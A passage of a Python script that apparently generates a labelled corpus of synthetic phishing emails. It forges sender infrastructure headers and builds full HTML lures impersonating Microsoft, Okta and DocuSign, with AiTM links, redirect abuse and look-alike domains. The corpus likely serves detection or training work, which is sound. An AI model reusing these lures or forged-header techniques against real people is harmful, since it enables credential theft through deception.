    lines = ["BEGIN:VCALENDAR", f"METHOD:{method}", "PRODID:Microsoft Exchange Server 2010", "VERSION:2.0",
             "BEGIN:VEVENT",
             f"ORGANIZER;CN={organizer[0]}:mailto:{organizer[1]}"]
    for name, addr in attendees:
        lines.append(f"ATTENDEE;ROLE=REQ-PARTICIPANT;PARTSTAT=NEEDS-ACTION;RSVP=TRUE;CN={name}:mailto:{addr}")
    lines += [f"DESCRIPTION;LANGUAGE=en-US:{esc(description)}",
              f"UID:{uid}", f"SUMMARY;LANGUAGE=en-US:{esc(summary)}",
              f"DTSTART:{t(start)}", f"DTEND:{t(start + timedelta(minutes=minutes))}",
              "CLASS:PUBLIC", "PRIORITY:5", f"DTSTAMP:{t(start - timedelta(days=2))}", "TRANSP:OPAQUE",
              "STATUS:CONFIRMED", "SEQUENCE:0", f"LOCATION;LANGUAGE=en-US:{esc(location)}",
              "BEGIN:VALARM", "DESCRIPTION:REMINDER", "TRIGGER;RELATED=START:-PT15M", "ACTION:DISPLAY",
              "END:VALARM", "END:VEVENT", "END:VCALENDAR"]
    return ("\r\n".join(fold75(l) for l in lines) + "\r\n").encode("utf-8")


MESSAGES: list[tuple[str, str, str, bytes]] = []


def add(m: Mail, raw: bytes) -> None:
    folder = REFILED.get(m.stem, m.folder)
    MESSAGES.append((m.stem, folder, m.desc, raw))


# --------------------------------------------------------------------------------------------
# Sending infrastructure (the sender's side of the Received chain and its signatures)
# --------------------------------------------------------------------------------------------

def enc(s: str, q: bool = False) -> str:
    """RFC 2047 encoding for non-ASCII header text (B like Outlook, or Q like most ESPs)."""
    if all(ord(c) < 128 for c in s):
        return s
    if q:
        out = []
        for ch in s.encode("utf-8"):
            c = chr(ch)
            if c == " ":
                out.append("_")
            elif c.isalnum() and ch < 128:
                out.append(c)
            else:
                out.append(f"={ch:02X}")
        words, cur = [], ""
        for tok in out:
            if len(cur) + len(tok) > 60:
                words.append(cur)
                cur = ""
            cur += tok
        words.append(cur)
        return "\n ".join(f"=?UTF-8?Q?{w}?=" for w in words)
    raw = s.encode("utf-8")
    chunks, cur = [], b""
    for ch in s:
        b = ch.encode("utf-8")
        if len(cur) + len(b) > 42:
            chunks.append(cur)
            cur = b""
        cur += b
    chunks.append(cur)
    del raw
    return "\n ".join(f"=?utf-8?B?{base64.b64encode(c).decode()}?=" for c in chunks)


def rp_addr(rcpt: str) -> str:
    return rcpt.replace("@", "=")


def ses_block(m: Mail, domain: str, sent: datetime | None = None, bounce_sub: str = "bounce",
              region: str = "us-east-1", ses_domain_only: bool = False) -> dict:
    sent = sent or m.sent(1)
    s = m.stem
    ip3, ip4 = num(s + "s3", 8, 11), num(s + "s4", 2, 250)
    ip = f"54.240.{ip3}.{ip4}"
    helo = f"a{ip3}-{ip4}.smtp-out.amazonses.com"
    sesid = f"0100{hx(s + 'ses', 12)}-{guid(s + 'ses2')}-000000"
    mailfrom = "amazonses.com" if ses_domain_only else f"{bounce_sub}.{domain}"
    sigs = []
    if not ses_domain_only:
        sigs.append(dkim(domain, lower_alnum(s + "sel", 32), "From:To:Subject:MIME-Version:Content-Type:Message-ID:Date",
                         s + "ses", t=ts(sent), style="space"))
    sigs.append(dkim("amazonses.com", "224i4yxa5dv7c2xz3womw6peuasteono",
                     "From:To:Subject:MIME-Version:Content-Type:Message-ID:Date:Feedback-ID", s + "sesb",
                     t=ts(sent), style="space"))
    return dict(ip=ip, helo=helo, mailfrom=mailfrom, spf="pass", dkim_res="pass",
                dkim_d="amazonses.com" if ses_domain_only else domain, dmarc="pass" if not ses_domain_only else "fail",
                tls="TLS1_2", pre="\n".join(sigs),
                post=f"Feedback-ID: ::1.{region}.{alnum(s + 'fb', 43)}=:AmazonSES\n"
                     f"X-SES-Outgoing: {sent.strftime('%Y.%m.%d')}-{ip}",
                msgid=f"<{sesid}@email.amazonses.com>",
                return_path=f"<{sesid}@{mailfrom}>", sent=sent)


def sendgrid_block(m: Mail, domain: str, em: str, sent: datetime | None = None, uid: int | None = None) -> dict:
    sent = sent or m.sent(2)
    s = m.stem
    uid = uid or num(s + "uid", 10000000, 49999999)
    ip = f"149.72.{num(s + 'g3', 100, 250)}.{num(s + 'g4', 2, 250)}"
    helo = f"{lower_alnum(s + 'sgh', 8)}.outbound-mail.sendgrid.net"
    pod = num(s + "pod", 1, 30)
    gid = alnum(s + "sgid", 22)
    filt = f"recvd-{hx(s + 'rv', 10)}-{lower_alnum(s + 'rv2', 5)}"
    pre = "\n".join([
        dkim(domain, "s1", "content-type:from:mime-version:subject:to:cc:content-type:from:subject:to", s + "sg1",
             style="space", size=128),
        dkim("sendgrid.info", "smtpapi", "content-type:from:mime-version:subject:to:cc:content-type:from:subject:to",
             s + "sg2", style="space", size=128),
        f"Received: by {filt} with SMTP id {filt}-1-{HX(s + 'rvid', 8)}-{num(s + 'rvn', 10, 99)}\n"
        f"\t{sent.strftime('%Y-%m-%d %H:%M:%S')}.{num(s + 'ns', 100000000, 999999999)} +0000 UTC m=+{num(s + 'mm', 1000, 99999)}.{num(s + 'mm2', 100000000, 999999999)}",
        f"Received: from {uid} (unknown)\n\tby geopod-ismtpd-{pod} (SG) with HTTP\n\tid {gid}\n\tfor <{m.rcpt}>;\n"
        f"\t{sent.strftime('%a, %d %b %Y %H:%M:%S')}.{num(s + 'ms', 100, 999)} +0000 (UTC)",
    ])
    post = "\n".join([
        f"X-SG-EID: \n =?us-ascii?Q?u001.{alnum(s + 'eid', 60)}?=\n =?us-ascii?Q?{alnum(s + 'eid2', 60)}?=",
        f"X-SG-ID: \n =?us-ascii?Q?u001.SdBcvi+Evd{alnum(s + 'sgi', 50)}?=",
        f"X-Entity-ID: u001.{alnum(s + 'ent', 22)}==",
    ])
    return dict(ip=ip, helo=helo, mailfrom=f"{em}.{domain}", spf="pass", dkim_res="pass", dkim_d=domain,
                dmarc="pass", tls="TLS1_2", pre=pre, post=post, msgid=f"<{gid}@geopod-ismtpd-{pod}>",
                return_path=f"<bounces+{uid}-{hx(s + 'rp', 4)}-{rp_addr(m.rcpt)}@{em}.{domain}>", sent=sent,
                uid=uid)


def mailgun_block(m: Mail, domain: str, sub: str = "mg", sent: datetime | None = None) -> dict:
    sent = sent or m.sent(1)
    s = m.stem
    ip3, ip4 = num(s + "m3", 224, 235), num(s + "m4", 2, 250)
    ip = f"159.135.{ip3}.{ip4}"
    helo = f"m{ip3}-{ip4}.mailgun.net"
    pre = "\n".join([
        dkim(f"{domain}", ["krs", "mx", "pic", "smtp"][num(s + "sel", 0, 3)],
             "Content-Transfer-Encoding: Content-Type: MIME-Version: Subject: Subject: To: To: From: From: Sender: Sender",
             s + "mg", t=ts(sent), style="space", size=128),
        f"X-Mailgun-Sending-Ip: {ip}",
        f"X-Mailgun-Sid: WyI{alnum(s + 'sid', 40)}",
        f"Received: by {hx(s + 'mgh', 12)} with HTTP; {fmt(sent)}",
    ])
    return dict(ip=ip, helo=helo, mailfrom=f"{sub}.{domain}", spf="pass", dkim_res="pass", dkim_d=domain,
                dmarc="pass", tls="TLS1_2", pre=pre,
                msgid=f"<{sent.strftime('%Y%m%d%H%M%S')}.{hx(s + 'mgid', 16)}@{sub}.{domain}>",
                return_path=f"<bounce+{hx(s + 'b1', 6)}.{hx(s + 'b2', 6)}-{rp_addr(m.rcpt)}@{sub}.{domain}>",
                sent=sent)


def cpanel_block(m: Mail, domain: str, account: str, server: str, ip: str, client_ip: str,
                 sent: datetime | None = None, authed: str | None = None, phpmailer: bool = False,
                 selector: str = "default") -> dict:
    """A cPanel/Exim shared host (compromised mailbox or compromised website)."""
    sent = sent or m.sent(2)
    s = m.stem
    eid = f"1t{alnum(s + 'ex', 4)}-0000{alnum(s + 'ex2', 2)}-{num(s + 'ex3', 10, 99)}{alnum(s + 'ex4', 1)}"
    lines = [dkim(domain, selector, "Content-Transfer-Encoding:Content-Type:MIME-Version:Message-ID:Subject:To:From:Date:"
                  "Sender:Reply-To:Cc:Content-ID:Content-Description:Resent-Date:Resent-From:Resent-Sender:"
                  "Resent-To:Resent-Cc:Resent-Message-ID:In-Reply-To:References:List-Id:List-Help:List-Unsubscribe:"
                  "List-Subscribe:List-Post:List-Owner:List-Archive", s + "cp", style="space")]
    if phpmailer:
        lines.append(fold(f"Received: from {account} by {server} with local (Exim 4.98) (envelope-from <{account}@{server}>) "
                          f"id {eid} for {m.rcpt}; {fmt(sent, -4 if us_off(sent)[0] == -4 else -5)}"))
    else:
        lines.append(fold(f"Received: from [{client_ip}] (port={num(s + 'port', 50000, 65000)} helo=[192.168.{num(s + 'lan', 0, 2)}.{num(s + 'lan2', 2, 200)}]) "
                          f"by {server} with esmtpsa (TLS1.3) tls TLS_AES_256_GCM_SHA384 (Exim 4.98) "
                          f"(envelope-from <{authed}>) id {eid} for {m.rcpt}; {fmt(sent, -4 if us_off(sent)[0] == -4 else -5)}"))
    post = [f"X-AntiAbuse: This header was added to track abuse, please include it with any abuse report",
            f"X-AntiAbuse: Primary Hostname - {server}",
            f"X-AntiAbuse: Original Domain - {m.rcpt.split('@')[1]}",
            f"X-AntiAbuse: Originator/Caller UID/GID - [47 12] / [47 12]",
            f"X-AntiAbuse: Sender Address Domain - {domain if not phpmailer else server}"]
    if phpmailer:
        post.append(f"X-Get-Message-Sender-Via: {server}: authenticated_id: {account}/from_h")
        post.append(f"X-Authenticated-Sender: {server}: {account}")
    else:
        post.append(f"X-Get-Message-Sender-Via: {server}: authenticated_id: {authed}")
        post.append(f"X-Authenticated-Sender: {server}: {authed}")
    post.append("X-Source: ")
    post.append("X-Source-Args: ")
    post.append("X-Source-Dir: ")
    mailfrom = server if phpmailer else domain
    return dict(ip=ip, helo=server, mailfrom=mailfrom, spf="pass", dkim_res="pass", dkim_d=domain,
                dmarc="bestguesspass", tls="TLS1_2", pre="\n".join(lines), post="\n".join(post), sent=sent,
                return_path=f"<{account}@{server}>" if phpmailer else f"<{authed}>")


def postfix_block(m: Mail, domain: str, host: str, ip: str, client: str | None = None,
                  sent: datetime | None = None, selector: str = "mail", ptr: str | None = None) -> dict:
    """An attacker-run VPS with Postfix + OpenDKIM for its own look-alike domain."""
    sent = sent or m.sent(2)
    s = m.stem
    qid = HX(s + "qid", 10)
    lines = [dkim(domain, selector, "From:To:Subject:Date:Message-ID:MIME-Version:Content-Type", s + "pf",
                  t=ts(sent), style="tab")]
    if client:
        lines.append(fold(f"Received: from [127.0.0.1] (unknown [{client}]) by {host} (Postfix) with ESMTPSA id {qid} "
                          f"for <{m.rcpt}>; {fmt(sent)}", indent="\t"))
    else:
        lines.append(fold(f"Received: by {host} (Postfix, from userid 33) id {qid}; {fmt(sent)}", indent="\t"))
    return dict(ip=ip, helo=host, ptr=ptr, mailfrom=domain, spf="pass", dkim_res="pass", dkim_d=domain, dmarc="pass",
                tls="TLS1_3", pre="\n".join(lines), sent=sent, msgid=f"<{hx(s + 'pfid', 32)}@{domain}>")


def zoho_block(m: Mail, domain: str, sender: str, sent: datetime | None = None) -> dict:
    sent = sent or m.sent(2)
    s = m.stem
    ipl = num(s + "z", 11, 14)
    ip = f"136.143.188.{ipl}"
    helo = f"sender4-op-o{ipl}.zoho.com"
    t = ts(sent)
    pre = "\n".join([
        f"ARC-Seal: i=1; a=rsa-sha256; t={t}; cv=none; \n\td=zohomail.com; s=zohoarc; \n\tb={chop(b64s(s + 'za', 256), 70, chr(9))}",
        f"ARC-Message-Signature: i=1; a=rsa-sha256; c=relaxed/relaxed; d=zohomail.com; s=zohoarc; \n\tt={t}; "
        f"h=Content-Type:Date:Date:From:From:MIME-Version:Message-ID:Subject:Subject:To:To:Message-Id:Reply-To; \n\t"
        f"bh={base64.b64encode(hashlib.sha256((s + 'zbh').encode()).digest()).decode()}; \n\tb={chop(b64s(s + 'zm', 256), 70, chr(9))}",
        f"ARC-Authentication-Results: i=1; mx.zohomail.com;\n\tdkim=pass  header.i={domain};\n\tspf=pass  smtp.mailfrom={sender};\n\tdmarc=pass header.from=<{sender}>",
        dkim(domain, "zmail" if domain != "zohomail.com" else "zm2022", "Date:Date:From:From:To:To:Message-Id:Message-Id:In-Reply-To:Subject:Subject:MIME-Version:Content-Type:Reply-To",
             s + "zd", t=t, style="tab", extra=f"i=@{domain}"),
        f"Received: from mail.zoho.com by mx.zohomail.com\n\twith SMTP id {t}{num(s + 'zms', 100, 999)}{num(s + 'zms2', 100000, 999999)}.{num(s + 'zz', 100, 999)}; "
        f"{fmt(sent, -8, 'PST')}",
        f"Received: from  [{num(s + 'cip1', 41, 197)}.{num(s + 'cip2', 1, 250)}.{num(s + 'cip3', 1, 250)}.{num(s + 'cip4', 1, 250)}] by mail.zoho.com\n\twith HTTP;"
        f"{fmt(sent - timedelta(seconds=1), -8, 'PST')}",
    ])
    return dict(ip=ip, helo=helo, mailfrom=domain, spf="pass", dkim_res="pass", dkim_d=domain, dmarc="pass",
                tls="TLS1_3", pre=pre, post="Importance: Medium\nUser-Agent: Zoho Mail\nX-Mailer: Zoho Mail",
                sent=sent, msgid=f"<{hx(s + 'zid', 11)}.{hx(s + 'zid2', 16)}.{t}{num(s + 'zid3', 100, 999)}@zohomail.com>")


# --------------------------------------------------------------------------------------------
# HTML wrappers as the sending software writes them
# --------------------------------------------------------------------------------------------

def owa_html(inner: str) -> str:
    """Outlook on the web / Exchange Online: its head block around whatever was pasted or typed."""
    return ('<html>\n<head>\n<meta http-equiv="Content-Type" content="text/html; charset=utf-8">\n'
            '<style type="text/css" style="display:none;"> P {margin-top:0;margin-bottom:0;} </style>\n'
            '</head>\n<body dir="ltr">\n' + inner + '\n</body>\n</html>\n')


def outlook_desktop_html(inner: str) -> str:
    """Outlook for Windows (Word as the editor)."""
    return ('<html xmlns:v="urn:schemas-microsoft-com:vml" xmlns:o="urn:schemas-microsoft-com:office:office" '
            'xmlns:w="urn:schemas-microsoft-com:office:word" xmlns:m="http://schemas.microsoft.com/office/2004/12/omml" '
            'xmlns="http://www.w3.org/TR/REC-html40">\n<head>\n<meta http-equiv="Content-Type" content="text/html; charset=utf-8">\n'
            '<meta name="Generator" content="Microsoft Word 15 (filtered medium)">\n<style><!--\n'
            '/* Font Definitions */\n@font-face\n\t{font-family:"Cambria Math";\n\tpanose-1:2 4 5 3 5 4 6 3 2 4;}\n'
            '@font-face\n\t{font-family:Aptos;}\n/* Style Definitions */\np.MsoNormal, li.MsoNormal, div.MsoNormal\n'
            '\t{margin:0in;\n\tfont-size:12.0pt;\n\tfont-family:"Aptos",sans-serif;}\n'
            'a:link, span.MsoHyperlink\n\t{mso-style-priority:99;\n\tcolor:#467886;\n\ttext-decoration:underline;}\n'
            'span.EmailStyle17\n\t{mso-style-type:personal-compose;\n\tfont-family:"Aptos",sans-serif;\n\tcolor:windowtext;}\n'
            '.MsoChpDefault\n\t{mso-style-type:export-only;\n\tfont-size:11.0pt;}\n'
            '@page WordSection1\n\t{size:8.5in 11.0in;\n\tmargin:1.0in 1.0in 1.0in 1.0in;}\n'
            'div.WordSection1\n\t{page:WordSection1;}\n--></style>\n</head>\n'
            '<body lang="EN-US" link="#467886" vlink="#96607D" style="word-wrap:break-word">\n'
            '<div class="WordSection1">\n' + inner + '\n</div>\n</body>\n</html>\n')


def gmail_html(inner: str) -> str:
    return f'<div dir="ltr">{inner}</div>\n'


def p_(s: str) -> str:
    return f'<p class="MsoNormal">{s}<o:p></o:p></p>\n'


def ms_paras(text_block: str) -> str:
    out = []
    for para in text_block.strip("\n").split("\n"):
        out.append(p_(para if para else "&nbsp;"))
    return "".join(out)


# --------------------------------------------------------------------------------------------
# Attacks
# --------------------------------------------------------------------------------------------

def a01_pwd_expiry_workers():
    rcpt = f"alan.petrosyan@{US}"
    m = Mail("phish-m365-pwd-expiry-workers", "phishing",
             "Password-expiry notice styled as Microsoft, sent from a compromised dental practice's Exchange Online "
             "mailbox (passes SPF/DKIM/DMARC) with the victim in Bcc; 'Keep current password' goes to a Cloudflare "
             "Workers page that fronts an AiTM Microsoft 365 kit behind a Turnstile check.",
             "us", utc(2025, 1, 21, 14, 12, 7), rcpt)
    p = exo_sender_block(m, domain="kesslerfamilydental.com", sender="frontdesk@kesslerfamilydental.com")
    url = f"https://keep-pwd-7f3a.frontdesk-kfd.workers.dev/?u={b64url_text(rcpt)}"
    inner = f"""<div style="font-family:'Segoe UI',Tahoma,Arial,sans-serif;font-size:14px;color:#323130;max-width:600px">
<table width="100%" cellpadding="0" cellspacing="0" border="0"><tr><td style="padding:20px 0 12px 0">
<img src="https://aadcdn.msftauth.net/shared/1.0/content/images/microsoft_logo_ee5c8d9fb6248c938fd0dc19370e90bd.svg" alt="Microsoft" width="108" height="24">
</td></tr></table>
<p style="font-size:22px;font-weight:600;margin:8px 0 16px 0">Password expiry notice</p>
<p style="margin:0 0 12px 0">The password for <b>{rcpt}</b> expires today, <b>1/21/2025</b>.</p>
<p style="margin:0 0 18px 0">You can keep using your current password. If no action is taken, a new password will be
assigned at sign-in and you may be signed out of Outlook, Teams and OneDrive on all devices.</p>
<table cellpadding="0" cellspacing="0" border="0"><tr><td style="background:#0067b8;padding:11px 26px">
<a href="{url}" style="color:#ffffff;text-decoration:none;font-weight:600;font-size:15px">Keep current password</a>
</td></tr></table>
<p style="font-size:12px;color:#605e5c;margin-top:34px">You're receiving this email because it is required to keep your account secure.<br>
Microsoft Corporation, One Microsoft Way, Redmond, WA 98052</p>
</div>"""
    plain = (f"Microsoft\n\nPassword expiry notice\n\nThe password for {rcpt} expires today, 1/21/2025.\n\n"
             "You can keep using your current password. If no action is taken, a new password will be assigned at "
             "sign-in and you may be signed out of Outlook, Teams and OneDrive on all devices.\n\n"
             f"Keep current password<{url}>\n\nYou're receiving this email because it is required to keep your "
             "account secure.\nMicrosoft Corporation, One Microsoft Way, Redmond, WA 98052\n")
    subj = f"Password Expiration Notice for {rcpt}"
    hdr = f"""From: IT Support <frontdesk@kesslerfamilydental.com>
To: Kessler Family Dentistry <frontdesk@kesslerfamilydental.com>
Subject: {subj}
Thread-Topic: {subj}
Thread-Index: {thread_index(m.stem)}
Date: {fmt(p['sent'])}
Message-ID: {p['msgid']}"""
    add(m, emit_parts(m, p, hdr, alt(plain, owa_html(inner), bnd(m.stem))))


def a02_okta_sendgrid():
    rcpt = f"megan.trask@{US}"
    m = Mail("phish-okta-sendgrid-lookalike", "phishing",
             "Okta-branded 'verify your sign-in' alert from the look-alike domain brackenridge-sso.com sent through "
             "SendGrid (authenticated for the look-alike); the click-tracked button resolves to an Okta AiTM page "
             "on brackenridgefluid.sso-okta.com.",
             "us", utc(2025, 2, 11, 15, 4, 24), rcpt)
    p = sendgrid_block(m, "brackenridge-sso.com", "em8123")
    click = (f"https://u{p['uid']}.ct.sendgrid.net/ls/click?upn=u001.{alnum(m.stem + 'c1', 90)}-2B"
             f"{alnum(m.stem + 'c2', 70)}-3D-3D{alnum(m.stem + 'c3', 4)}_{alnum(m.stem + 'c4', 120)}")
    html = f"""<!DOCTYPE html PUBLIC "-//W3C//DTD XHTML 1.0 Strict//EN" "http://www.w3.org/TR/xhtml1/DTD/xhtml1-strict.dtd">
<html xmlns="http://www.w3.org/1999/xhtml"><head><meta http-equiv="Content-Type" content="text/html; charset=utf-8" />
<meta name="viewport" content="width=device-width, initial-scale=1" /><title>Okta</title></head>
<body style="margin:0;padding:0;background-color:#f4f4f4">
<table role="presentation" width="100%" cellpadding="0" cellspacing="0" border="0" bgcolor="#f4f4f4"><tr><td align="center" style="padding:30px 10px">
<table role="presentation" width="600" cellpadding="0" cellspacing="0" border="0" style="background:#ffffff;border:1px solid #dddddd;font-family:Arial,Helvetica,sans-serif;color:#5e5e5e">
<tr><td style="padding:24px 32px;border-bottom:1px solid #e8e8e8">
<img src="https://ok12static.oktacdn.com/fs/bco/1/fs0brackenridge/okta-logo.png" alt="Brackenridge Fluid Systems" height="36" style="display:block" />
</td></tr>
<tr><td style="padding:28px 32px 8px 32px;font-size:20px;color:#1d1d21;font-weight:bold">Verify it's you</td></tr>
<tr><td style="padding:8px 32px;font-size:14px;line-height:21px">Hi Megan,<br /><br />
We noticed a sign-in attempt to your <b>Brackenridge Fluid Systems</b> Okta account that we could not verify with Okta Verify.
To keep access to Workday, Microsoft 365 and your other apps, please confirm your identity within 24 hours.</td></tr>
<tr><td style="padding:8px 32px;font-size:13px;line-height:20px">
<table role="presentation" cellpadding="0" cellspacing="0" border="0" style="background:#f7f7f7;width:100%"><tr><td style="padding:12px 16px">
<b>Browser:</b> Edge on Windows<br /><b>Location:</b> Cleveland, Ohio, United States<br /><b>Time:</b> February 11, 2025 9:58 AM EST</td></tr></table>
</td></tr>
<tr><td style="padding:22px 32px" align="left">
<a href="{click}" style="background-color:#1662dd;color:#ffffff;display:inline-block;font-size:14px;font-weight:bold;line-height:40px;text-align:center;text-decoration:none;width:210px;border-radius:3px">Verify my account</a>
</td></tr>
<tr><td style="padding:6px 32px 28px 32px;font-size:12px;color:#8c8c96;line-height:18px">If you did not attempt to sign in, verifying will also reset any active sessions.<br />
This is an automatically generated message from Okta. Replies are not monitored or answered.</td></tr>
</table>
<p style="font-family:Arial,Helvetica,sans-serif;font-size:11px;color:#a0a0a0">Powered by Okta &middot; 100 First Street, San Francisco, CA 94105</p>
</td></tr></table>
<img src="https://u{p['uid']}.ct.sendgrid.net/wf/open?upn=u001.{alnum(m.stem + 'op', 110)}" alt="" width="1" height="1" border="0" style="height:1px !important;width:1px !important;border-width:0 !important;margin:0 !important;padding:0 !important" /></body></html>
"""
    plain = ("Verify it's you\n\nHi Megan,\n\nWe noticed a sign-in attempt to your Brackenridge Fluid Systems Okta account "
             "that we could not verify with Okta Verify. To keep access to Workday, Microsoft 365 and your other apps, "
             "please confirm your identity within 24 hours.\n\nBrowser: Edge on Windows\nLocation: Cleveland, Ohio, "
             f"United States\nTime: February 11, 2025 9:58 AM EST\n\nVerify my account: {click}\n\n"
             "This is an automatically generated message from Okta. Replies are not monitored or answered.\n")
    hdr = f"""From: "Okta" <no-reply@brackenridge-sso.com>
Subject: Action required: verify your Okta sign-in
Date: {fmt(p['sent'])}
Message-ID: {p['msgid']}
Reply-To: no-reply@brackenridge-sso.com
To: {rcpt}"""
    add(m, emit_parts(m, p, hdr, alt(plain, html, bnd(m.stem, "sg"))))


def bing_ck(target: str, seed: str) -> str:
    u = "a1" + base64.urlsafe_b64encode(target.encode()).decode().rstrip("=")
    return (f"https://www.bing.com/ck/a?!&&p={hx(seed + 'p', 64)}JmltdHM9MTc0NDA3MDQwMA&ptn=3&ver=2&hsh=4"
            f"&fclid={guid(seed + 'fc')}&u={u}&ntb=1")


def a03_okta_uk_bing():
    rcpt = f"oliver.kettering@{UK}"
    m = Mail("phish-okta-fastpass-bing-redirect", "phishing",
             "UK staff told to re-enrol Okta FastPass before a deadline, sent from a compromised Google Workspace "
             "mailbox of a Leeds recruitment agency (passes authentication); the link is a Bing 'ck/a' redirect whose "
             "base64 'u' parameter leads to an Okta phishing page.",
             "uk", utc(2025, 4, 8, 8, 41, 55), rcpt)
    p = google_sender_block(m, domain="fairbournetalent.co.uk")
    target = "https://sso.okta-emea-verify.com/brackenridgefluid/fastpass/enrol?src=mail"
    link = bing_ck(target, m.stem)
    html = gmail_html(f"""<div>Hello,</div><div><br></div>
<div>As part of the UK security update, all Brackenridge Fluid Systems UK users must re-enrol Okta FastPass on their
laptop and phone before <b>Monday 14 April</b>. Accounts that are not re-enrolled will be unable to sign in to Outlook,
Teams and Sage from that date.</div><div><br></div>
<div>The process takes about two minutes:</div><div><br></div>
<div><a href="{link}" target="_blank">Re-enrol Okta FastPass (UK)</a></div><div><br></div>
<div>If you have already completed this, no further action is needed.</div><div><br></div>
<div>Kind regards,</div><div>IT Service Desk<br>Brackenridge Fluid Systems UK Ltd</div>""")
    plain = ("Hello,\n\nAs part of the UK security update, all Brackenridge Fluid Systems UK users must re-enrol Okta "
             "FastPass on their laptop and phone before *Monday 14 April*. Accounts that are not re-enrolled will be "
             "unable to sign in to Outlook, Teams and Sage from that date.\n\nThe process takes about two minutes:\n\n"
             f"Re-enrol Okta FastPass (UK) <{link}>\n\nIf you have already completed this, no further action is needed.\n\n"
             "Kind regards,\nIT Service Desk\nBrackenridge Fluid Systems UK Ltd\n")
    p["ctry"] = "US"
    subj = enc("Okta FastPass – re-enrolment required for UK users")
    hdr = f"""MIME-Version: 1.0
From: Brackenridge UK IT Service Desk <accounts@fairbournetalent.co.uk>
Date: {fmt(p['sent'], p['off'])}
Message-ID: {p['msgid']}
Subject: {subj}
To: Undisclosed recipients:;"""
    add(m, emit_parts(m, p, hdr, alt(plain, html, bnd(m.stem, "gmail"))))


DOCUSIGN_FOOTER = """<tr><td style="padding:0 24px 24px 24px;font-family:Helvetica,Arial,sans-serif;font-size:11px;color:#666666;line-height:18px">
<b>Do Not Share This Email</b><br>This email contains a secure link to Docusign. Please do not share this email, link, or access code with others.<br><br>
<b>Alternate Signing Method</b><br>Visit Docusign.com, click 'Access Documents', and enter the security code:<br>{code}<br><br>
<b>About Docusign</b><br>Sign documents electronically in just minutes. It's safe, secure, and legally binding. Whether you're in an office, at home, on-the-go -- or even across the globe -- Docusign provides a professional trusted solution for Digital Transaction Management&trade;.<br><br>
<b>Questions about the Document?</b><br>If you need to modify the document or have questions about the details in the document, please reach out to the sender by emailing them directly.<br><br>
<b>Stop receiving this email</b><br><a href="{report}" style="color:#2463d1">Report this email</a> or read more about <a href="https://support.docusign.com/s/articles/How-do-I-manage-my-email-notifications" style="color:#2463d1">Declining to sign</a> and <a href="https://support.docusign.com/s/articles/How-do-I-manage-my-email-notifications" style="color:#2463d1">Managing notifications</a>.<br><br>
If you have trouble signing, visit "<a href="https://support.docusign.com/s/articles/How-do-I-sign-a-DocuSign-document-Basic-Signing" style="color:#2463d1">How to Sign a Document</a>" on our <a href="https://support.docusign.com/" style="color:#2463d1">Docusign Support Center</a>, or browse our <a href="https://community.docusign.com/signing-7" style="color:#2463d1">Docusign Community</a> for more information.<br><br>
<a href="https://www.docusign.com/?utm_campaign=GBL_XX_DBU_UPS_2211_SignNotificationEmailFooter&amp;utm_medium=product&amp;utm_source=postsend" style="color:#2463d1">Download the Docusign App</a><br><br>
This message was sent to you by {sender} who is using the Docusign Electronic Signature Service. If you would rather not receive email from this sender you may contact the sender with your request.</td></tr>"""


def docusign_html(*, sender: str, sender_email: str, title: str, message: str, link: str, code: str,
                  report: str, button: str = "REVIEW DOCUMENT", pixel: str = "") -> str:
    footer = DOCUSIGN_FOOTER.format(code=code, report=report, sender=sender)
    return f"""<!DOCTYPE html><html><head><meta http-equiv="Content-Type" content="text/html; charset=utf-8"><meta name="viewport" content="width=device-width, initial-scale=1"></head>
<body style="padding:0;margin:0;background-color:#eaeaea">
<table border="0" cellspacing="0" cellpadding="0" width="100%" style="background-color:#eaeaea"><tr><td style="padding:2% 2% 0 2%">
<table border="0" cellspacing="0" cellpadding="0" width="100%" align="center" style="max-width:640px;background-color:#ffffff">
<tr><td style="padding:10px 24px"><img height="24" src="https://na3.docusign.net/Signing/Images/email/Email_Logo.png" style="border:none" alt="Docusign"></td></tr>
<tr><td style="padding:0 24px 30px 24px">
<table border="0" cellspacing="0" cellpadding="0" width="100%" align="center" style="background-color:#1e4ca1;color:#ffffff"><tr><td align="center" style="padding:28px 36px 36px 36px;border-radius:2px;background-color:#1e4ca1;color:#ffffff;font-size:16px;font-family:Helvetica,Arial,sans-serif;text-align:center">
<img height="75" width="75" src="https://na3.docusign.net/member/Images/email/docInvite-white.png" style="width:75px;height:75px" alt="">
<table border="0" cellspacing="0" cellpadding="0" width="100%"><tr><td align="center" style="border:none;padding-top:24px;font-family:Helvetica,Arial,sans-serif;font-size:16px;color:#ffffff">{sender} sent you a document to review and sign.</td></tr></table>
<table border="0" cellspacing="0" cellpadding="0" width="100%"><tr><td align="center" style="padding-top:30px"><div><table cellspacing="0" cellpadding="0"><tr><td align="center" height="44" style="font-size:15px;color:#333333;background-color:#ffc423;font-family:Helvetica,Arial,sans-serif;text-align:center;text-decoration:none;border-radius:2px;display:block">
<a href="{link}" style="font-size:15px;color:#333333;background-color:#ffc423;font-family:Helvetica,Arial,sans-serif;font-weight:bold;text-align:center;text-decoration:none;border-radius:2px;display:inline-block;padding:0 24px;line-height:44px"><span style="padding:0px 24px;line-height:44px">{button}</span></a></td></tr></table></div></td></tr></table>
</td></tr></table></td></tr>
<tr><td style="padding:0 24px 24px 24px;color:#000000;font-size:16px;font-family:Helvetica,Arial,sans-serif;background-color:white">
<table border="0" cellspacing="0" cellpadding="0"><tr><td style="padding-bottom:20px"><div style="font-family:Helvetica,Arial,sans-serif;font-size:15px;line-height:20px;color:#333333;font-weight:bold">{sender}</div>
<div style="font-family:Helvetica,Arial,sans-serif;font-size:15px;line-height:20px;color:#666666"><a href="mailto:{sender_email}" style="color:#2463d1">{sender_email}</a></div></td></tr></table>
<p style="font-size:15px;color:#333333;font-family:Helvetica,Arial,sans-serif;line-height:20px">{message}</p></td></tr>
<tr><td style="padding:0 24px 12px 24px;background-color:#ffffff;font-family:Helvetica,Arial,sans-serif;font-size:11px;color:#666666"></td></tr>
{footer}
</table>
<table border="0" cellspacing="0" cellpadding="0" width="100%" style="max-width:640px"><tr><td style="padding:12px 24px;font-family:Helvetica,Arial,sans-serif;font-size:11px;color:#666666">Powered by <img src="https://na3.docusign.net/Member/Images/email/docusign-logo-gray.png" height="12" alt="Docusign"></td></tr></table>
</td></tr></table>{pixel}
</body></html>
"""


def a04_docusign_r2():
    rcpt = f"nicole.brandt@{US}"
    m = Mail("phish-docusign-lookalike-r2", "phishing",
             "Copy of a DocuSign signing request that appears to come from the company's own legal counsel, sent "
             "through Amazon SES from the look-alike domain esign-docusign-notice.com; 'REVIEW DOCUMENT' points to a "
